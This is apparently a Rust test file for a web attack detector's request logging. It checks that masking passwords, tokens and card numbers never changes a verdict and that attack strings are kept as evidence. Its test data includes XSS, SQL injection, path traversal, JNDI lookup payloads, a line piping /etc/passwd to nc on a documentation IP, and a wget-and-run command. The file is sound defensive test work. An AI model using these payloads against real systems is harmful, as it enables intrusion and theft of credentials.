//! Masking never changes a verdict, and nothing secret is written.

use palisade_detect::{Engine, EngineSettings, HashSeed, Observe, SiteProfile};
use palisade_domain::{
    BodyKind, BodyPrefix, ClientKey, Fact, HeadFault, HeaderCase, HeaderList, HeaderOrder, HttpVersion,
    PassKind, RequestFacts, RequestId, Resolution, ResponseFacts, Scheme, SessionId, Signature, SiteId,
    TenantId, Timestamp, Vantage, Verdict,
};
use palisade_policy::{Around, Judge, Policy};
use palisade_testkit::Mix;
use proptest::prelude::*;

use super::*;
use crate::formats::{Format, Record};
use crate::source::LINE_BYTES_MAX;

const SEED: HashSeed = HashSeed([3, 4]);

fn engine() -> Engine {
    let site = SiteProfile {
        honeypot_fields: vec!["website".to_owned()],
        trap_paths: vec!["/trap/".to_owned()],
        script_token: Some("palisade_token".to_owned()),
        ..SiteProfile::default()
    };
    Engine::new(EngineSettings { site, ..EngineSettings::new(SEED) })
}

fn judge() -> Judge {
    Judge::new(engine(), Policy::default())
}

fn written(facts: &RequestFacts<'_>, verdict: &Verdict, around: &Around, observe: Observe) -> String {
    let judgement = Judgement { id: RequestId(107), sequence: 7, verdict, around, observe };
    let line = request_line(facts, &judgement, &Masks::new(SEED));
    let line = finish(line, &ResponseFacts::default(), 9, Timestamp(99));
    assert!(line.len() < LINE_BYTES_MAX, "{} bytes", line.len());
    assert!(!line.contains('\n'));
    line
}

fn read(line: &str) -> Record {
    let record = Format::parse_any(line, None, &mut String::new()).unwrap();
    assert_eq!(record.format, Format::Palisade);
    record
}

/// Judges `facts` as they are and as they come back from a line; both judges remember what they saw before.
fn check(live: &Judge, again: &Judge, facts: &RequestFacts<'_>) -> Result<String, TestCaseError> {
    let judged = live.request(facts, Observe::Note);
    let line = written(facts, &judged.verdict, &Around::default(), Observe::Note);
    let record = read(&line);
    let headers = record.header_entries();
    let replayed = again.request(&record.facts(&headers), Observe::Note);
    prop_assert_eq!(&replayed.verdict, &judged.verdict, "{}", line);
    prop_assert_eq!(replayed.features, judged.features);
    let response = ResponseFacts { status: Fact::Known(200), ..ResponseFacts::default() };
    live.response(judged.ticket, &response, facts.time);
    again.response(replayed.ticket, &response, facts.time);
    Ok(line)
}

fn bare(time: i64) -> RequestFacts<'static> {
    let client = ClientKey::Ip("192.0.2.7".parse().unwrap());
    let mut facts = RequestFacts::bare(client, Timestamp(time), Vantage::GatewayClear);
    facts.method = Fact::Known("POST");
    facts.target = Fact::Known("/contact");
    facts.version = Fact::Known(HttpVersion::Http11);
    facts.scheme = Fact::Known(Scheme::Http);
    facts.user_agent = Fact::Known("Mozilla/5.0 (X11; Linux x86_64; rv:153.0) Gecko/20100101 Firefox/153.0");
    facts
}

#[test]
fn the_measured_mix_is_judged_alike() {
    for vantage in [Vantage::GatewayTls, Vantage::GatewayClear, Vantage::Log] {
        let (mix, live, again) = (Mix::new(vantage), judge(), judge());
        for n in 0..400 {
            check(&live, &again, &mix.facts(n)).unwrap();
        }
    }
}

#[test]
fn every_fact_comes_back() {
    let entries = [("Host", "a.example"), (":odd", "x"), ("Accept", "*/*")];
    let mut facts = bare(1_700_000_000_123_456);
    facts.client = ClientKey::Opaque("192.0.2.9");
    facts.tenant = TenantId(3);
    facts.site = SiteId(2);
    facts.resolution = Resolution::Milli;
    facts.session = Fact::Known(SessionId(u128::MAX - 5));
    facts.pass = Fact::Known(PassKind::HardWork);
    facts.host = Fact::Absent;
    facts.referrer = Fact::Known("");
    facts.headers =
        Fact::Known(HeaderList { entries: &entries, order: HeaderOrder::Lost, case: HeaderCase::Wire });
    facts.body = Fact::Absent;
    facts.ja4 = Fact::Known("t13d1516h2_8daaf6152771_b186095e22b6");
    facts.fingerprint = Fact::Known("{\"canvas\":\"x\"}");
    facts.host_name = Fact::Known("crawl.example");
    facts.signature = Fact::Known(Signature::Verified("https://bot.example"));
    facts.head_fault = Fact::Known(HeadFault::Folding);
    facts.client_hidden = true;
    facts.preview = true;
    let around = Around { keyed_trap_hit: true, key: Some(u64::MAX), ..Around::default() };
    let verdict = judge().request(&facts, Observe::Peek).verdict;
    let record = read(&written(&facts, &verdict, &around, Observe::Peek));
    let headers = record.header_entries();
    let back = record.facts(&headers);
    assert_eq!(format!("{back:?}"), format!("{facts:?}"));
    assert_eq!((record.observe(), record.around().key), (Observe::Peek, around.key));
    assert!(record.around().keyed_trap_hit);
    let place = record.place().unwrap();
    assert_eq!((place.run, place.sequence, place.end.map(|end| end.sequence)), (100, 7, Some(9)));
    assert_eq!(record.verdict().map(|live| live.score), Some(verdict.assessment.score.value()));
}

#[test]
fn nothing_secret_is_written() {
    let secret = "hunter2horse";
    let cookie = format!("sid={secret}; {secret}");
    let bearer = format!("Bearer {secret}");
    let names = ["Cookie", "Authorization", "X-Api-Key", "X-CSRF-Token", "X-Forwarded-For", "X-Session"];
    let entries: Vec<(&str, &str)> = names
        .iter()
        .map(|name| {
            (
                *name,
                match *name {
                    "Cookie" => cookie.as_str(),
                    "Authorization" => &bearer,
                    _ => secret,
                },
            )
        })
        .collect();
    let bodies = [
        (BodyKind::Form, format!("user=ann&password={secret}&{secret}&a@{secret}=1")),
        (BodyKind::Json, format!("{{\"password\":\"{secret}\",\"n\":[\"{secret}\", {secret}]}}")),
        (
            BodyKind::Multipart,
            format!(
                "--X\r\nContent-Disposition: form-data; name=\"p\"; filename=\"{secret}\"\r\nX: {secret}\r\n\r\n{secret}\r\n--X--"
            ),
        ),
        (BodyKind::Text, secret.to_owned()),
    ];
    for (kind, body) in bodies {
        let mut facts = bare(1_700_000_000_000_001);
        facts.headers =
            Fact::Known(HeaderList { entries: &entries, order: HeaderOrder::Wire, case: HeaderCase::Wire });
        facts.body = Fact::Known(BodyPrefix { kind, bytes: body.as_bytes(), complete: true });
        let line = check(&judge(), &judge(), &facts).unwrap();
        assert!(!line.contains(secret), "{line}");
        assert!(!line.contains("ann"), "{line}");
    }
}

const SCRIPT: &str = "<script>alert(1)</script>";

/// The body that stands in the line of a request with this one; `#` for any mask. It is judged alike.
fn kept(kind: BodyKind, body: &[u8]) -> String {
    let mut facts = bare(1_700_000_000_000_001);
    facts.body = Fact::Known(BodyPrefix { kind, bytes: body, complete: false });
    let record = read(&check(&judge(), &judge(), &facts).unwrap());
    let back = record.facts(&[]).body.known().expect("the body fits its line");
    assert!(!back.complete);
    let mut text = String::from_utf8_lossy(back.bytes).into_owned();
    let is_mask = |word: &str| word.bytes().all(|b| b.is_ascii_hexdigit());
    while let Some((at, _)) =
        text.match_indices('v').find(|(at, _)| text.get(at + 1..at + 16).is_some_and(is_mask))
    {
        text.replace_range(at..at + 16, "#");
    }
    text
}

#[test]
fn an_attack_is_kept_as_evidence_and_nothing_beside_it() {
    let check = |kind, body: &str, expect: &str| assert_eq!(kept(kind, body.as_bytes()), expect, "{body}");
    let union = "1' union select password from users -- ";
    check(BodyKind::Form, union, "#' union select password from users --#");
    check(BodyKind::Form, &format!("a={union}&b=2&password=hunter2"), &format!("a={union}&b=#&password=#"));
    check(BodyKind::Form, &format!("password=hunter2{SCRIPT}&b=2"), "password=#<script>alert(#&b=#");
    check(BodyKind::Form, "cmd=ls&card=4111111111111111", "cmd=ls&card=#");
    check(BodyKind::Form, &format!("{{\"password\":\"hunter2\",\"q\":\"{SCRIPT}\"}}"), "#\"<script>#");
    check(
        BodyKind::Json,
        &format!(r#"{{"q": ["{SCRIPT}", "other"], "card": {{"pin": "{SCRIPT}"}}, "n": true}}"#),
        &format!(r##"{{"q": ["{SCRIPT}", "#"], "card": {{"pin": "#"}}, "n": true}}"##),
    );
    check(BodyKind::Json, &format!(r#"{{"{SCRIPT}": "ann"}}"#), r##"{"<script>alert(#": "#"}"##);
    check(BodyKind::Text, &format!("<user>ann</user><q>{SCRIPT}</q>"), "#<script>alert(#");
    check(
        BodyKind::Multipart,
        &format!(
            "--XX\r\nContent-Disposition: form-data; name=\"iban\"\r\n\r\nDE89370400440532013000\r\n--XX\r\n\
             Content-Disposition: form-data; name=\"f\"; filename=\"{SCRIPT}.png\"\r\n\r\nphoto\r\n--XX--\r\n"
        ),
        &format!(
            "--#\r\nContent-Disposition: form-data; name=\"iban\"\r\n\r\n#\r\n--#\r\n\
             Content-Disposition: form-data; name=\"f\"; filename=\"{SCRIPT}.png\"\r\n\r\n#\r\n--#--\r\n"
        ),
    );
    let bytes = [&b"a=%c0%ae%c0%ae/etc/passwd\xff&b=\xff\xfe&c="[..], SCRIPT.as_bytes()].concat();
    let expect = format!("a=%c0%ae%c0%ae/etc/passwd\u{fffd}&b=#&c={SCRIPT}");
    assert_eq!(kept(BodyKind::Form, &bytes), expect);
}

#[test]
fn where_the_rest_of_a_text_matters_it_stays_whole() {
    // A browser's report is judged mildly, and without headers it is known by its beginning.
    let report = "{\"csp-report\":{\"blocked-uri\":\"${jndi:ldap://198.51.100.7/a}\"}}";
    assert_eq!(kept(BodyKind::Form, report.as_bytes()), report);
}

#[test]
fn a_secret_beside_an_attack_goes_however_its_field_is_named() {
    let attack = "hunter2' or 1=1--";
    let json = [
        format!(r#"[{{"name":"password","value":"{attack}"}}]"#),
        format!(r#"[{{"value":"{attack}","name":"password"}}]"#),
        format!(r#"{{"password":{{"new":"{attack}"}}}}"#),
        format!(r#"{{"password":[{{"a":["{attack}"]}}]}}"#),
        format!(r#"{{"q":"x","password"{}:"{attack}"}}"#, " ".repeat(8)),
        format!(r#"{{"q":"x","password"{}:"{attack}"}}"#, " \n".repeat(300)),
        format!(r#"{{"p\u0061ssword":"{attack}"}}"#),
        format!(r#"{{"p\u0061ssword":{{"new":"{attack}"}}}}"#),
        format!(r#"{{"data":"{{\"password\":\"{attack}\"}}"}}"#),
        format!(r#"{{"q":"x"}} {{"password":"{attack}"}}"#),
        format!(r#"{{'password':{{"new":"{attack}"}}}}"#),
        format!(r#"{{"fields":[["password","{attack}"]]}}"#),
    ];
    let names = [
        "p%61ssword",
        "p%2561ssword",
        "auth",
        "private",
        "key",
        "api_key",
        "apikey",
        "access_key",
        "pw",
        "credential",
    ];
    let forms = names.iter().map(|name| format!("q=x&{name}={attack}"));
    let forms = forms.chain([
        format!("name=password&value={attack}"),
        format!("name=password'--&value={attack}"),
        format!("f[0][name]=p%61ssword&f[0][value]={attack}"),
        format!("data={{\"password\":\"{attack}\"}}"),
        format!("data=password%3D{attack}"),
    ]);
    let named = names.iter().map(|name| format!(r#"{{"q":"x","{name}":"{attack}"}}"#));
    let parts = names.iter().chain(&["a\"; name=\"password"]).map(|name| {
        format!("--XX\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{attack}\r\n--XX--\r\n")
    });
    let bodies = (json.into_iter().chain(named).map(|body| (BodyKind::Json, body)))
        .chain(forms.map(|body| (BodyKind::Form, body)))
        .chain(parts.map(|body| (BodyKind::Multipart, body)));
    for (kind, body) in bodies {
        let mut facts = bare(1_700_000_000_000_001);
        facts.body = Fact::Known(BodyPrefix { kind, bytes: body.as_bytes(), complete: true });
        let line = check(&judge(), &judge(), &facts).unwrap();
        assert!(!line.contains("hunter2"), "{body}: {line}");
        assert!(line.contains("1=1") && !line.contains("\"cut\""), "{body}: {line}");
    }
}

#[test]
fn where_only_the_whole_text_would_do_a_secret_in_it_goes_with_the_body() {
    let report = r#"{"csp-report":{"token":"hunter2","blocked-uri":"${jndi:ldap://198.51.100.7/a}"}}"#;
    for body in [report.to_owned(), format!("password=hunter2&{}", report.replace("token", "a"))] {
        let mut facts = bare(1_700_000_000_000_001);
        facts.body = Fact::Known(BodyPrefix { kind: BodyKind::Form, bytes: body.as_bytes(), complete: true });
        let verdict = judge().request(&facts, Observe::Note).verdict;
        let line = written(&facts, &verdict, &Around::default(), Observe::Note);
        assert!(!line.contains("hunter2"), "{line}");
    }
}

#[test]
fn what_a_name_tells_the_detector_is_told_by_its_mask() {
    // The same text is an editor's under one name and an attack under another; neither name is one that is kept.
    let text = "<img src=x onerror=alert(1)>";
    let json = |name: &str| format!(r#"{{"{name}": "{text}", "b": "x"}}"#);
    for name in ["Ann's comment", "Ann's number", "Ann's file", "the body"] {
        let kept = kept(BodyKind::Json, json(name).as_bytes());
        assert!(!kept.contains("Ann") && !kept.contains("the"), "{kept}");
    }
}

#[test]
fn of_a_cookie_only_the_attack_is_kept() {
    let attack = "${jndi:ldap://198.51.100.7/a}";
    let cookie = format!("sid=hunter2horse; theme=x{attack}; cart=hunter2horse");
    let key = format!("hunter2horse {attack}");
    let entries = [("Cookie", cookie.as_str()), ("X-Api-Key", &key), ("X-Other", attack)];
    let mut facts = bare(1_700_000_000_000_001);
    facts.headers =
        Fact::Known(HeaderList { entries: &entries, order: HeaderOrder::Wire, case: HeaderCase::Wire });
    let line = check(&judge(), &judge(), &facts).unwrap();
    assert!(!line.contains("hunter2") && line.contains("cart=v"), "{line}");
    assert!(line.contains("theme=v") && line.contains("${jndi:") && line.contains(attack), "{line}");
}

#[test]
fn a_line_keeps_its_bound_and_says_so() {
    let long = "\u{1}".repeat(60_000);
    let names: Vec<String> = (0..200).map(|n| format!("x-{n}")).collect();
    let value = "a".repeat(300);
    let entries: Vec<(&str, &str)> = names.iter().map(|name| (name.as_str(), value.as_str())).collect();
    let mut facts = bare(5);
    let small =
        written(&facts, &judge().request(&facts, Observe::Note).verdict, &Around::default(), Observe::Note);
    assert!(!small.contains("\"cut\""));
    facts.target = Fact::Known(&long);
    facts.referrer = Fact::Known(&long);
    facts.fingerprint = Fact::Known(&long);
    facts.headers =
        Fact::Known(HeaderList { entries: &entries, order: HeaderOrder::Wire, case: HeaderCase::Wire });
    let attack = format!("a=<script>alert(1)</script>&b={}", "\u{1}".repeat(16_000));
    facts.body = Fact::Known(BodyPrefix { kind: BodyKind::Form, bytes: attack.as_bytes(), complete: false });
    let verdict = judge().request(&facts, Observe::Note).verdict;
    let line = written(&facts, &verdict, &Around::default(), Observe::Note);
    assert!(line.contains("\"cut\":true"));
    let record = read(&line);
    assert_eq!(record.facts(&[]).headers, Fact::Unseen);
}

fn body() -> impl Strategy<Value = (BodyKind, Vec<u8>)> {
    let word = "(website|palisade_token|cmd|file|url|q|name|value|password|p%61ss|auth|a comment|my file|[a-z\"<']{0,6})";
    let value = "(|\\+| |password|[a-zA-Z0-9 ]{0,9}|ls|id|1 or 1=1|<b>x</b>|../../etc/passwd|http://a.example/x|[ -~]{0,12}|é\
                 |[ -~é]{0,9}(<script>alert\\(1\\)</script>|' or '1'='1|1' union select null--|%2527%c0%ae|\\$\\{jndi:ldap://h/a\\})[ -~]{0,9})";
    let pair = (word, value);
    let pairs = prop::collection::vec(pair, 0..5);
    let form = pairs.clone().prop_map(|pairs| {
        let text = pairs.iter().map(|(name, value)| format!("{name}={value}")).collect::<Vec<_>>().join("&");
        (BodyKind::Form, text.into_bytes())
    });
    let json = pairs.clone().prop_map(|pairs| {
        let all: serde_json::Map<String, serde_json::Value> =
            pairs.into_iter().map(|(name, value)| (name, value.into())).collect();
        (BodyKind::Json, serde_json::Value::Object(all).to_string().into_bytes())
    });
    let multipart = pairs.prop_map(|pairs| {
        let part = |(name, value): &(String, String)| {
            let name = name.replace('"', "");
            format!("--XX\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
        };
        (
            BodyKind::Multipart,
            format!("{}--XX--\r\n", pairs.iter().map(part).collect::<String>()).into_bytes(),
        )
    });
    let any_kind =
        prop::sample::select(vec![BodyKind::Form, BodyKind::Multipart, BodyKind::Json, BodyKind::Text]);
    let raw = "([ -~\n]{0,12}(<script>alert\\(1\\)</script>|' or 1=1--|/../../etc/passwd|%c0%ae|\0|;cat /etc/passwd|\"){0,1}){0,4}";
    let raw = (any_kind, raw).prop_map(|(kind, text)| (kind, text.into_bytes()));
    prop_oneof![form, json, multipart, raw]
}

fn header() -> impl Strategy<Value = (String, String)> {
    let name = prop::sample::select(vec![
        "Cookie",
        "Authorization",
        "X-Api-Key",
        "X-Forwarded-For",
        "Accept",
        "Host",
        "Via",
        "X-Other",
        "Referer",
        "palisade_token",
        "Sec-Fetch-Site",
        "accept-language",
        "Connection",
    ]);
    let value = "(|a=b; c=d|Bearer [a-z]{4}|a=b; c=[ -~]{0,9}\\$\\{jndi:ldap://h/a\\}[ -~]{0,9}; d|\\$\\{jndi:ldap://198.51.100.7/a\\}|<script>alert\\(1\\)</script>|[ -~]{0,20})";
    (name.prop_map(str::to_owned), value)
}

/// Attacks of every kind; none holds what divides the fields of a form.
const ATTACKS: [&str; 12] = [
    SCRIPT,
    "<img src=x onerror=alert(document.cookie)>",
    "1' union select password from users-- ",
    "' or '1'='1",
    "1; drop table users--",
    "../../../../etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc/shadow",
    "; cat /etc/passwd | nc 198.51.100.7 4444",
    "$(wget http://198.51.100.7/x.sh)",
    "${jndi:ldap://198.51.100.7/a}",
    "{{7*7}}{{config.items()}}",
    "php://filter/convert.base64-encode/resource=index.php",
];

/// A field as it is sent.
#[derive(Clone, Debug)]
struct Field {
    name: &'static str,
    value: String,
    is_attack: bool,
}

fn field() -> impl Strategy<Value = Field> {
    let names = [
        "q",
        "comment",
        "file",
        "url",
        "email",
        "password",
        "card",
        "user[pin]",
        "a body",
        "Ann's",
        "",
        "cmd",
    ];
    // No attack and no mask is made of these letters.
    let secret = "[g-z]{10,14}";
    let attack = prop::option::of((prop::sample::select(ATTACKS.to_vec()), any::<bool>()));
    (prop::sample::select(names.to_vec()), secret, attack).prop_map(|(name, secret, attack)| {
        let value = match attack {
            Some((attack, true)) => format!("{secret} {attack} {secret}"),
            Some((attack, false)) => attack.to_owned(),
            None => secret,
        };
        Field { name, value, is_attack: attack.is_some() }
    })
}

fn sent(kind: BodyKind, fields: &[Field]) -> String {
    let quoted = |text: &str| serde_json::Value::from(text).to_string();
    let all = fields.iter().map(|Field { name, value, .. }| match kind {
        BodyKind::Form if name.is_empty() => value.replace('=', "%3D"),
        BodyKind::Form => format!("{}={value}", name.replace(' ', "+")),
        BodyKind::Json => format!("{}: [{}]", quoted(name), quoted(value)),
        BodyKind::Multipart => {
            format!("--XX\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{value}\r\n")
        }
        BodyKind::Text => format!("<{name}>{value}</{name}>\n"),
    });
    let all: Vec<String> = all.collect();
    match kind {
        BodyKind::Form => all.join("&"),
        BodyKind::Json => format!("{{{}}}", all.join(", ")),
        BodyKind::Multipart => format!("{}--XX--\r\n", all.concat()),
        BodyKind::Text => all.concat(),
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]
    #[test]
    fn beside_an_attack_nobodys_values_survive(
        fields in prop::collection::vec(field(), 0..6),
        kind in prop::sample::select(vec![BodyKind::Form, BodyKind::Multipart, BodyKind::Json]),
        repeats in 1usize..7,
    ) {
        let (live, again) = (judge(), judge());
        let body = sent(kind, &fields);
        for n in 0..repeats {
            let mut facts = bare(1_700_000_000_000_000 + i64::try_from(n).unwrap() * 1_234_567);
            facts.body = Fact::Known(BodyPrefix { kind, bytes: body.as_bytes(), complete: true });
            let line = check(&live, &again, &facts)?;
            prop_assert!(!line.contains("\"cut\""), "{}", line);
            for field in fields.iter().filter(|field| !field.is_attack) {
                prop_assert!(!line.contains(&field.value), "{} in {}", field.value, line);
            }
        }
    }

    /// A text has no fields: what lies beyond the attack that is reported goes.
    #[test]
    fn of_a_text_only_the_attack_survives(
        before in prop::collection::vec("[g-z]{10,14}", 1..3),
        attack in prop::sample::select(ATTACKS.to_vec()),
        after in "[g-z]{10,14}",
    ) {
        let body = format!("<a>{}</a>\n<q>{attack}</q>\n<b>{after}</b>\n", before.join("</a><a>"));
        let mut facts = bare(1_700_000_000_000_000);
        facts.body = Fact::Known(BodyPrefix { kind: BodyKind::Text, bytes: body.as_bytes(), complete: true });
        let line = check(&judge(), &judge(), &facts)?;
        prop_assert!(!line.contains("\"cut\""), "{}", line);
        for value in before.iter().chain([&after]) {
            prop_assert!(!line.contains(value), "{} in {}", value, line);
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]
    #[test]
    fn masking_never_changes_a_verdict(
        requests in prop::collection::vec((body(), prop::collection::vec(header(), 0..6), 1usize..7, any::<bool>()), 1..4),
    ) {
        let (live, again) = (judge(), judge());
        let mut time = 1_700_000_000_000_000;
        for ((kind, bytes), headers, repeats, complete) in &requests {
            let entries: Vec<(&str, &str)> = headers.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
            for n in 0..*repeats {
                time += 1_234_567;
                let mut facts = bare(time);
                facts.headers = Fact::Known(HeaderList {
                    entries: &entries,
                    order: HeaderOrder::Wire,
                    case: HeaderCase::Wire,
                });
                facts.body = Fact::Known(BodyPrefix { kind: *kind, bytes, complete: *complete });
                // The same body comes with an attack elsewhere, too.
                if n == 3 {
                    facts.target = Fact::Known("/contact?q=1'+union+select+password+from+users--");
                }
                check(&live, &again, &facts)?;
            }
        }
    }

    #[test]
    fn any_facts_make_a_line_that_reads_back(
        target: String, agent: String, name: String, value: String, bytes: Vec<u8>, time: i64,
    ) {
        let entries = [(name.as_str(), value.as_str())];
        let mut facts = bare(time);
        facts.target = Fact::Known(&target);
        facts.user_agent = Fact::Known(&agent);
        facts.headers = Fact::Known(HeaderList {
            entries: &entries,
            order: HeaderOrder::Wire,
            case: HeaderCase::Lost,
        });
        facts.body = Fact::Known(BodyPrefix { kind: BodyKind::Text, bytes: &bytes, complete: true });
        let verdict = judge().request(&facts, Observe::Peek).verdict;
        let record = read(&written(&facts, &verdict, &Around::default(), Observe::Note));
        let headers = record.header_entries();
        let back = record.facts(&headers);
        prop_assert_eq!((back.time, back.target, back.user_agent), (facts.time, facts.target, facts.user_agent));
        prop_assert_eq!(back.headers.known().map(|list| list.entries[0].0), Some(name.as_str()));
    }
}
